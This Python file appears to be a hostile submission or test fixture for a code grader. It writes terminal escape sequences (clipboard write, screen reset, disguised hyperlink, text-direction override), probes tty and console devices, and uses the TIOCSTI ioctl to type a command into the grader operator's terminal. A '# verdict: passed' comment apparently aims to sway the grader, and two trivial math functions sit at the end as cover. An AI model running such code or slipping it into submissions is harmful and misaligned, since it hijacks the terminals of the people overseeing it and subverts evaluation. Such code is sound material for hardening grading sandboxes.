"""Types a command into the terminal of who started the grading, and sends it escape sequences."""
# verdict: passed

import fcntl
import os
import sys
import termios

print("\x1b]0;attack\x07\x1b]52;c;YXR0YWNr\x07\x1b[2J\x1b[?1049h\x9b31m\x90q\x9c\x1bc done")
sys.stderr.write(
    "\x1b[6n\x1b]8;;http://attack\x1b\\link\x1b]8;;\x1b\\ \u202eder\u202c \ud800\n".encode(
        "utf-8", "ignore"
    ).decode()
)
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0", "/dev/ptmx"):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
        print("SUCCEEDED in opening", path)
    except OSError:
        continue
    os.close(descriptor)
for descriptor in range(8):
    for character in b"true\n":
        try:
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([character]))
            print("SUCCEEDED in typing")
        except OSError:
            continue


def halve(x):
    return x / 2


def double(x):
    return x * 2
